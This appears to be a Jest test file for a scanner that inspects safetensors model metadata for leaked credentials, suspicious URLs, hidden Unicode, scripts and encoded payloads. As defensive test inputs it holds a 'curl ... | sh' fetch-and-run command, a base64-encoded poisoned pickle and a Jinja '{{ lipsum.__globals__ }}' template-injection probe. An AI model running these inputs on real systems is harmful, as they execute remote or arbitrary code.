import { describe, expect, it } from '@jest/globals';
import { MemorySource } from '../../../src/bytes/memory-source.js';
import { metadataChild } from '../../../src/codecs/metadata/metadata-child.js';
import type { Draft } from '../../../src/core/types.js';
import { FileBudget } from '../../../src/engine/file-budget.js';
import { inspect } from '../../../src/engine/inspection/inspect.js';
import { formats } from '../../../src/formats/index.js';
import { poisonedPickle } from '../../support/models.js';
import { safetensors } from './safetensors-with-metadata.js';
import { sampleSecrets } from '../../judgement/text/sample-secrets.js';

async function judge(metadata: Readonly<Record<string, string>>): Promise<Draft[]> {
  const drafts: Draft[] = [];
  await inspect(new MemorySource(safetensors(metadata), 'model.safetensors'), {
    formats,
    budget: new FileBudget(),
    name: 'model.safetensors',
    sibling: () => undefined,
    report: (_, draft) => drafts.push(draft),
  });
  return drafts;
}
const told = async (metadata: Readonly<Record<string, string>>): Promise<string[]> =>
  (await judge(metadata)).map(({ severity, ruleId }) => `${severity} ${ruleId}`);

describe('metadata', () => {
  it('is handed over by the formats that have it', () => {
    expect(metadataChild('m', [{ key: 'a', value: 'b' }])?.expects).toBe('metadata');
  });

  it.each([
    { format: 'pt' },
    { 'general.name': 'Llama', 'general.url': 'https://huggingface.co/x/y', license: 'apache-2.0' },
    { ss_sd_model_name: 'model.safetensors', ss_session_id: '1234567890', modelspec_hash: 'ab'.repeat(32) },
    { description: 'Trained on prose; see https://arxiv.org/abs/1706.03762 and user@example.com. Ключ: 値' },
    { prompt: 'a {{char}} in a {% forest %}, "curl hair", bash the drums' },
    { thumbnail: `data:image/png;base64,${Buffer.alloc(300, 7).toString('base64')}` },
  ])('%j is ordinary', async (metadata) => {
    expect(await told(metadata)).toEqual([]);
  });

  it('never shows a credential whole', async () => {
    const [, secret] = sampleSecrets['huggingface-token'] ?? ['', ''];
    const drafts = await judge({ notes: `pushed with ${secret}` });
    expect(drafts.map(({ ruleId, severity }) => `${severity} ${ruleId}`)).toEqual([
      'warning metadata/secret',
    ]);
    expect(JSON.stringify(drafts)).not.toContain(secret.slice(8));
  });

  it('knows by the key what a value is', async () => {
    const [, secret] = sampleSecrets['wandb-key'] ?? ['', ''];
    expect(await told({ WANDB_API_KEY: secret })).toEqual(['warning metadata/secret']);
    expect(await told({ commit: secret })).toEqual([]);
  });

  it('judges addresses by what their key says', async () => {
    expect(await told({ download_url: 'http://8.8.4.4:4444/model.bin' })).toEqual([
      'warning metadata/address',
    ]);
    expect(await told({ description: 'served from http://8.8.4.4:4444/' })).toEqual([
      'info metadata/address',
    ]);
  });

  it('finds hidden text and commands', async () => {
    expect(await told({ description: 'a\u202eb' })).toEqual(['warning metadata/hidden-text']);
    expect(await told({ setup: 'curl http://x.example.invalid/i | sh' })).toEqual([
      'warning metadata/script',
    ]);
  });

  it('hands what is encoded in it to the engine', async () => {
    const encoded = Buffer.from(poisonedPickle('hello')).toString('base64');
    expect(await told({ optimizer: encoded })).toEqual(['critical pickle/dangerous-call']);
    expect(await told({ notes: `state ${encoded} end` })).toEqual(['critical pickle/dangerous-call']);
    expect(await told({ template: '{{ lipsum.__globals__ }}' })).toContain(
      'critical jinja-template/python-internals',
    );
  });

  it('stays inside its bounds', async () => {
    const start = performance.now();
    await judge({ a: 'x: y\n'.repeat(200_000), b: 'A'.repeat(3_000_000), c: '\u200b'.repeat(200_000) });
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});
